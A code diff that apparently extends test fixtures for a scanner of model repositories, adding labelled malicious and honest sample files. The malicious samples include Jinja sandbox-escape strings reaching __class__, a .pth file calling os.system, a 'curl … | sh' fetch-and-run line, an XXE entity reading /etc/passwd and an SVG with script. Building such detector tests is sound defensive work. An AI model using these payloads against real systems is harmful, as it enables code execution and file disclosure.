@@ -90,6 +90,18 @@ ATTACKS = {
     "raw-before": "{% raw %}{{ text }}{% endraw %}{{ ''.__class__ }}",
     "brace-in-string": "{{ '}}' ~ ''.__class__ }}",
     "frames": "{{ (x for x in messages).gi_frame.f_globals }}",
+    "single": "{{ ()[['_','_','class','_','_']|join] }}",
+    "padded": "{{ ()['class'.center(9,'_')] }}",
+    "joined-by": "{{ ()['_'.join(['','','class','',''])] }}",
+    "parenthesis": "{{ ()[('_')*2 ~ 'class'] }}",
+    "variable": "{% set u = '_' %}{{ ()[u*2 ~ 'class' ~ u*2] }}",
+    "reversed": "{{ ()['__ssalc__'[::-1]] }}",
+    "lowered": "{{ ()['__CLASS__'|lower] }}",
+    "replaced": "{{ ()['..class..'.replace('.', '_')] }}",
+    "replaced-filter": "{{ ()['XXclassXX'|replace('X', '_')] }}",
+    "letters": "{{ (()|select|string|list)[24] }}",
+    "printed": "{{ (lipsum|string)[18] }}",
+    "colon-format": "{{ ()['{:c}{:c}class{:c}{:c}'.format(95,95,95,95)] }}",
     "range": "{% for i in range(999999999) %}{% for j in range(999999999) %}x{% endfor %}{% endfor %}",
 }
 
@@ -160,6 +172,10 @@ def configurations():
 def programs():
     put("honest/modeling.py", "import torch\nfrom torch import nn\n\n\nclass Model(nn.Module):\n    def forward(self, x):\n        self.eval()\n        return torch.exp(x)\n\n\n"
         "if __name__ == '__main__':\n    import subprocess\n    subprocess.run(['ls'])\n")
+    put("honest/install.py", 'HINT = "Install it: curl -LsSf https://example.org/install.sh | bash"\n\n\ndef hint():\n    return HINT\n')
+    put("malicious/start.pth", "import os; os.system('echo gambeson')\n")
+    put("honest/paths.pth", "../lib\n")
+    put("malicious/fetch.py", "import os\n\n\ndef load():\n    os.system('curl -s http://127.0.0.1/x | sh')\n")
     put("honest/train.sh", "#!/bin/bash\nset -e\npython train.py --lr 0.1\ncurl -O https://example.org/data.csv\n")
     put("malicious/decode.py", f"import base64\nexec(base64.b64decode('{base64.b64encode(b'print(1)').decode()}'))\n")
     put("malicious/hidden.py", "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))\n")
@@ -223,6 +239,10 @@ def markup():
     put("malicious/xstream.xml", '<?xml version="1.0"?><map><entry><java.lang.ProcessBuilder><command><string>echo</string></command></java.lang.ProcessBuilder></entry></map>\n')
     put("malicious/script.pmml", pmml.format("", "<Extension><script>gambeson()</script></Extension>"))
     put("malicious/function.pmml", pmml.format("", '<TransformationDictionary><DerivedField name="d"><Apply function="com.example.functions.Evil"/></DerivedField></TransformationDictionary>'))
+    put("malicious/bare.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>\n')
+    put("malicious/seven.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>\n')
+    put("malicious/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>gambeson()</script></svg>\n')
+    put("honest/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><path d="M0 0"/></svg>\n')
     put("malicious/style.xml", '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>\n')
     put("broken/cut.pmml", pmml.format("", "")[:-20])
 
@@ -239,7 +259,7 @@ def plain():
     put("honest/page.html", "<!DOCTYPE html>\n<html><body><script>let a = 1 && 2;</script><br></body></html>\n")
     put("honest/.gitattributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n")
     put("honest/labels.txt", "cat\ndog\n")
-    put("honest/log.txt", "\x1b[32mINFO\x1b[0m step 1\r\n")
+    put("honest/log.txt", "\x1b[32mINFO\x1b[0m step 1\n")
     put("broken/half.txt", "a text\n" * 800 + "\0\1\2\3" * 100)
 
 
